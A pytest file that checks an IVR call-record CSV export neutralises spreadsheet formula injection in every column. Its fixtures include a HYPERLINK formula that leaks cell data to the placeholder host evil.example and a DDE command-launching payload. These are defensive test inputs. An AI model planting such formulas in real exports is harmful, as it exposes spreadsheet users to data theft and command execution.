"""CSV formula injection: no column of `ivr calls export --csv` can carry a spreadsheet formula.

One rule (ivr.admin.cdr.spreadsheet_safe) covers every column, so the tests
put a formula into every column a row can set and check each one.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ivr.admin.cdr import COLUMNS, cdr_row, spreadsheet_safe
from ivr.store.db import Database
from ivr.store.models import CallRecord
from tests.unit.cli import ok, write_conf

LONDON = ZoneInfo("Europe/London")
T0 = datetime(2026, 11, 25, 14, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# Every way a cell can start that a spreadsheet reads as a formula.
FORMULAS = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


@dataclass
class Row:
    """A call row with every text attribute set to `text` (timestamps stay times)."""

    text: str
    id: int = 7
    started_at: datetime = T0
    answered_at: datetime | None = T0 + timedelta(seconds=2)
    ended_at: datetime | None = T0 + timedelta(seconds=40)
    verified: bool = True
    kind: str = "caller"
    cli: str | None = field(init=False)
    outcome: str = field(init=False)
    customer: str | None = field(init=False)
    digits: str = field(init=False)
    fault_reference: str | None = field(init=False)
    sip_call_id: str = field(init=False)
    node: str | None = field(init=False)

    def __post_init__(self) -> None:
        self.cli = self.outcome = self.customer = self.digits = self.text
        self.fault_reference = self.sip_call_id = self.node = self.text


# The columns whose text comes from a row (or sip.conf's public number).
TEXT_COLUMNS = (
    "src",
    "dst",
    "customer",
    "digits",
    "fault_reference",
    "outcome",
    "sip_call_id",
    "node",
)


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", TEXT_COLUMNS)
def test_every_text_column_is_defused(column: str, formula: str) -> None:
    cells = dict(zip(COLUMNS, cdr_row(Row(formula), formula, LONDON), strict=True))
    assert cells[column] == "'" + formula


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_column_at_all_can_start_a_formula(formula: str) -> None:
    for column, cell in zip(COLUMNS, cdr_row(Row(formula), formula, LONDON), strict=True):
        assert spreadsheet_safe(cell) == cell, column


@pytest.mark.parametrize("number", ["+442079460000", "-5", "12", "3.5"])
def test_plain_numbers_are_left_as_they_are(number: str) -> None:
    assert spreadsheet_safe(number) == number


@given(st.text())
def test_the_rule_only_ever_adds_one_quote_and_leaves_nothing_live(text: str) -> None:
    cell = spreadsheet_safe(text)
    assert cell in (text, "'" + text)
    assert spreadsheet_safe(cell) == cell


def test_the_customer_column_through_the_real_export(tmp_path: Path) -> None:
    conf = write_conf(tmp_path)
    db = Database(f"sqlite:///{tmp_path}/x.db")
    db.create_schema()
    with db.sessions.begin() as session:
        session.add(
            CallRecord(
                sip_call_id="@SUM(1)",
                cli="+442079460000",
                verified=True,
                customer=FORMULA,
                started_at=T0,
                digits="-1",
                outcome="+reported",
                fault_reference="=1",
                node="-node:5060",
            )
        )
    db.dispose()
    (row,) = list(csv.DictReader(io.StringIO(ok(conf, "calls", "export", "--csv"))))
    assert row["customer"] == "'" + FORMULA
    assert row["src"] == "+442079460000"
    assert (row["sip_call_id"], row["outcome"], row["fault_reference"], row["node"]) == (
        "'@SUM(1)",
        "'+reported",
        "'=1",
        "'-node:5060",
    )
    assert row["digits"] == "-1"  # a plain number: nothing a spreadsheet can run
